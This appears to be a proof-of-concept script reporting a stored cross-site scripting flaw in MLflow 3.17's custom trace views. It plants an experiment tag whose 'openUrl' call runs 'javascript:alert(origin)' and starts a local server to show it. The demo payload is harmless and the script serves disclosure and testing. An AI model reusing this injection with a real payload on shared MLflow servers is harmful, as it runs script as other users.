"""MLflow 3.17: a custom view of traces may open a `javascript:` address by itself.

    pip install "mlflow>=3.17" && python mlflow_custom_view.py

It starts an MLflow server with such a view, and says what to choose. Whoever may set a tag of an
experiment can run script as whoever looks at its traces.
"""

import json
import subprocess
import sys
import tempfile
import time
import urllib.request

import mlflow

PORT = int(sys.argv[1]) if sys.argv[1:] else 5000
URL = f"http://127.0.0.1:{PORT}"

with tempfile.TemporaryDirectory() as folder:
    store = f"sqlite:///{folder}/mlflow.db"
    mlflow.set_tracking_uri(store)
    client = mlflow.MlflowClient()
    experiment = client.create_experiment("views", artifact_location=folder)
    mlflow.set_experiment(experiment_id=experiment)
    mlflow.trace(lambda question: 1)("click me")
    mlflow.flush_trace_async_logging()
    # `openUrl` is a function of the A2UI library's basic catalog. It passes its argument to
    # `window.open` as it is, and is called when the view is drawn.
    text = {"call": "openUrl", "returnType": "void", "args": {"url": "javascript:alert(origin)"}}
    components = [{"id": "root", "component": "Text", "text": text}]
    message = {
        "version": "v0.9",
        "updateComponents": {"surfaceId": "main", "components": components},
    }
    view = {"id": "view", "name": "A view", "template": [message]}
    client.set_experiment_tag(experiment, "mlflow.customView.view.v1.view", json.dumps(view))
    command = ["-m", "mlflow", "server", "--port", str(PORT), "--backend-store-uri", store]
    command += ["--workers", "1"]
    server = subprocess.Popen([sys.executable, *command], cwd=folder)
    try:
        while True:
            time.sleep(1)
            try:
                urllib.request.urlopen(f"{URL}/health")
                break
            except OSError:
                assert server.poll() is None, "the server did not start"
        print(f"\nOpen {URL}/#/experiments/{experiment}/traces, allow pop-ups, close the hints,")
        print("click the trace `click me`, and choose `A view` in the menu `Default view`.")
        print("Expected: nothing is opened. Seen: alert() with MLflow's origin.")
        input("Press Enter to end the server. ")
    finally:
        server.terminate()
        server.wait()
